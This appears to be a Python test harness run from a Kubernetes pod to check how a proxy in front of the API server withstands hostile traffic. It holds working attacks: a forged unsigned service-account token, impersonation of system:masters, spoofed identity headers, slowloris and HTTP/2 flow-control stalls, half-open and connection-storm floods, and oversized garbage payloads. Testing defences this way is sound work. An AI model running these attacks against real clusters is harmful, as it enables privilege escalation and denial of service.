"""What a hostile program does from inside a recorded pod: `python attacks.py NAME...`, one line of JSON for each.

It stands alone: a pod runs it that has nothing of this project but the file. `arrived` is how many connections the
proxy's listener has at the moment, those included that wait to be accepted: the sockets are the pod's own.
"""

import json
import os
import resource
import socket
import ssl
import sys
import time
from contextlib import ExitStack, suppress
from itertools import cycle
from pathlib import Path

from h2.config import H2Configuration
from h2.connection import H2Connection

API = ("10.96.0.1", 443)
ACCOUNT = Path("/var/run/secrets/kubernetes.io/serviceaccount")
PATIENCE = 10
HALF_OPEN = 3000
STORM = 700
FORGED = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6a3ViZS1zeXN0ZW06ZGVmYXVsdCJ9.AAAA"
"""A token without a signature that says: kube-system's default service account."""


def secured(sock, name="kubernetes.default.svc", protocol="http/1.1"):
    context = ssl.create_default_context(cafile=ACCOUNT / "ca.crt")
    context.check_hostname = False
    context.set_alpn_protocols([protocol])
    return context.wrap_socket(sock, server_hostname=name)


def connect():
    return socket.create_connection(API, PATIENCE)


def ended(sock):
    """Read to the end; return what was said before it."""
    with suppress(OSError):
        return b"".join(iter(lambda: sock.recv(65536), b"")).decode("latin-1")[:200]
    return ""


def is_closed(sock):
    """Read on until the peer ends the connection; tell whether it does."""
    sock.settimeout(PATIENCE)
    try:
        while sock.recv(65536):
            pass
    except TimeoutError:
        return False
    except OSError:
        return True
    return True


def sockets():
    """Give (port, state) of all of the pod's sockets on loopback."""
    lines = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    found = {(line[1], line[2]): line[3] for line in lines}  # a list that is read in pieces may have one twice
    return [(int(own.split(":")[1], 16), state) for (own, _), state in found.items() if own.startswith("0100007F")]


def listening():
    return {port for port, state in sockets() if state == "0A"}


def arrived():
    ports = listening()
    return sum(port in ports and state == "01" for port, state in sockets())


def listener():
    """Connect to every port that loopback listens on, without being redirected there."""
    said = []
    for port in listening():
        with socket.create_connection(("127.0.0.1", port), PATIENCE) as sock:
            with suppress(OSError):
                sock.sendall(b"\x16\x03\x01\x02\x00")
            said.append(ended(sock))
    return {"ports": len(said), "said": "".join(said)}


def forged():
    """Ask with another name in SNI, another's token, another's address, and in another's name."""
    statuses = []
    token = (ACCOUNT / "token").read_text()
    for more in (
        f"Authorization: Bearer {FORGED}\r\n",
        f"Authorization: Bearer {token}\r\nImpersonate-User: system:admin\r\nImpersonate-Group: system:masters\r\n",
        f"Authorization: Bearer {token}\r\nX-Forwarded-For: 203.0.113.9\r\nX-Remote-User: admin\r\n",
    ):
        with secured(connect(), "evil.example") as sock:
            head = f"GET /api/v1/nodes HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: forger/1\r\n{more}"
            sock.sendall(f"{head}Connection: close\r\n\r\n".encode())
            statuses.append(ended(sock).split()[1])
    return {"statuses": statuses}


GARBAGE = (
    os.urandom(20_000),
    bytes(20_000),
    b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 500,
    b"\x16\x03\x01\x00\x04\x01\xff\xff\xff" + b"\x16\x03\x01\x00\x01x" * 3000,  # a ClientHello of 16 MB
)


def garbage():
    """Send what is neither TLS nor anything else."""
    with ExitStack() as stack:
        opened = [stack.enter_context(connect()) for _ in range(40)]
        told = {"arrived": arrived()}
        for sock, said in zip(opened, cycle(GARBAGE), strict=False):
            with suppress(OSError):
                sock.sendall(said)
        return {**told, "closed": sum(map(is_closed, opened))}


def headers():
    """Send headers without an end."""
    with secured(connect()) as sock:
        told, sent = arrived(), 0
        line = b"X: " + b"y" * 4000 + b"\r\n"
        with suppress(OSError):
            sock.sendall(b"GET /api HTTP/1.1\r\nHost: x\r\n")
            for _ in range(10_000):
                sock.sendall(line)
                sent += len(line)
        return {"arrived": told, "sent": sent, "closed": is_closed(sock)}


def unfinished():
    """Begin requests with nearly as large heads as there may be, as quickly as connections are read, and end none."""
    begun, most = [], 0
    with ExitStack() as stack:
        for _ in paced(60, 40):
            with suppress(OSError):
                sock = stack.enter_context(secured(connect()))
                sock.sendall(b"GET /api HTTP/1.1\r\nHost: x\r\nX: " + b"y" * 1_000_000)
                begun.append(sock)
            most = max(most, arrived())
        return {"arrived": most, "cut": sum(map(is_cut, begun))}


def is_cut(sock):
    """Tell whether the peer has ended a connection by now."""
    sock.settimeout(0)
    try:
        return not sock.recv(1)
    except ssl.SSLWantReadError:
        return False
    except OSError:
        return True


def never_reads():
    """Ask for lists over HTTP/2, allow everything, and never read."""
    with asking(10, window=2**30) as sock:
        told = arrived()
        time.sleep(PATIENCE / 2)
        return {"arrived": told, "cut": is_reset(sock)}


def never_allows():
    """Ask for lists over many HTTP/2 connections, and allow none of them to come."""
    most = 0
    with ExitStack() as stack:
        opened = []
        for _ in range(8):
            opened.append(stack.enter_context(asking(4)))
            most = max(most, arrived())
        over = time.monotonic() + PATIENCE
        while not (cut := sum(map(is_reset, opened))) and time.monotonic() < over:
            time.sleep(0.05)
        return {"arrived": most, "cut": cut}


def asking(streams, window=0):
    """Ask for the API's description so many times over one HTTP/2 connection.

    With a hundred unread answers the API server has all calls of the same account wait: its priority and fairness.
    """
    token = (ACCOUNT / "token").read_text()
    peer = H2Connection(H2Configuration(client_side=True, header_encoding="utf-8"))
    peer.initiate_connection()
    request = [(":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", "/openapi/v2")]
    for stream in range(1, 2 * streams, 2):
        peer.send_headers(stream, [*request, ("authorization", f"Bearer {token}")], end_stream=True)
        if window:
            peer.increment_flow_control_window(window, stream)
    if window:
        peer.increment_flow_control_window(window)
    sock = secured(connect(), protocol="h2")
    sock.sendall(peer.data_to_send())
    return sock


def is_reset(sock):
    """Tell whether the peer has cut a connection of which nothing is read: the kernel's word for it."""
    return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1) != b"\x01"


def half_open():
    """Open connections as quickly as can be, and say nothing on them."""
    with ExitStack() as stack:
        opened = [stack.enter_context(socket.socket()) for _ in range(HALF_OPEN)]
        for sock in opened:
            sock.setblocking(False)
            sock.connect_ex(API)
        most, over = arrived(), time.monotonic() + PATIENCE / 2
        while time.monotonic() < over:
            time.sleep(0.1)
            most = max(most, arrived())
        return {"arrived": most, "connected": sum(map(is_connected, opened))}


def is_connected(sock):
    with suppress(OSError):
        return bool(sock.getpeername())
    return False


def patient():
    """Open connections no faster than they are read, until they are too many, and say nothing on them."""
    most = 0
    with ExitStack() as stack:
        for number in paced(540, 45):
            stack.enter_context(connect())
            if number % 10 == 0:
                most = max(most, arrived())
        return {"arrived": most}


def storm():
    """Connect to the listener itself, far more often than it is read, and wait for what it says."""
    opened, said = [], b""
    (port,) = listening()
    with ExitStack() as stack:
        with suppress(ConnectionRefusedError):  # it listens no more
            while len(opened) < STORM:
                opened.append(stack.enter_context(socket.create_connection(("127.0.0.1", port), PATIENCE)))
        for sock in opened:
            with suppress(OSError):
                said += sock.recv(100)
    return {"connected": len(opened), "said": said.decode("latin-1")}


def paced(count, rate):
    """Count, so many a second and never more quickly: what was late is not made up for."""
    for number in range(count):
        yield number
        time.sleep(1 / rate)


if __name__ == "__main__":
    most_files = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most_files, most_files))
    for name in sys.argv[1:]:
        print(json.dumps({"attack": name, **globals()[name]()}), flush=True)
